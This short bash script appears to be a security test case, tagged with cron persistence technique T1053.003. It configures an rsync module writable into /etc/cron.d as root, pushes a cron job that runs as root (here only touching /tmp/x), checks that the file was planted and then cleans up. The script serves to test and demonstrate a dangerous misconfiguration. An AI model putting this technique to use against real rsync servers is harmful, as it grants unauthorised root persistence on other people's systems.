# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1053.003
about="the configuration has a module for /etc/cron.d, and a job is sent to it"
attack() {
	configure <<-end
		[jobs]
			path = /etc/cron.d
			uid = root
			read only = no
	end
	echo '* * * * * root touch /tmp/x' >"$state/job"
	sync "$state/job" $url/jobs/planted
}
effect() { [ -e /etc/cron.d/planted ]; }
after() {
	rm -f /etc/cron.d/planted
	cp "$here/rsyncd.conf" $store/etc/rsyncd.conf
}
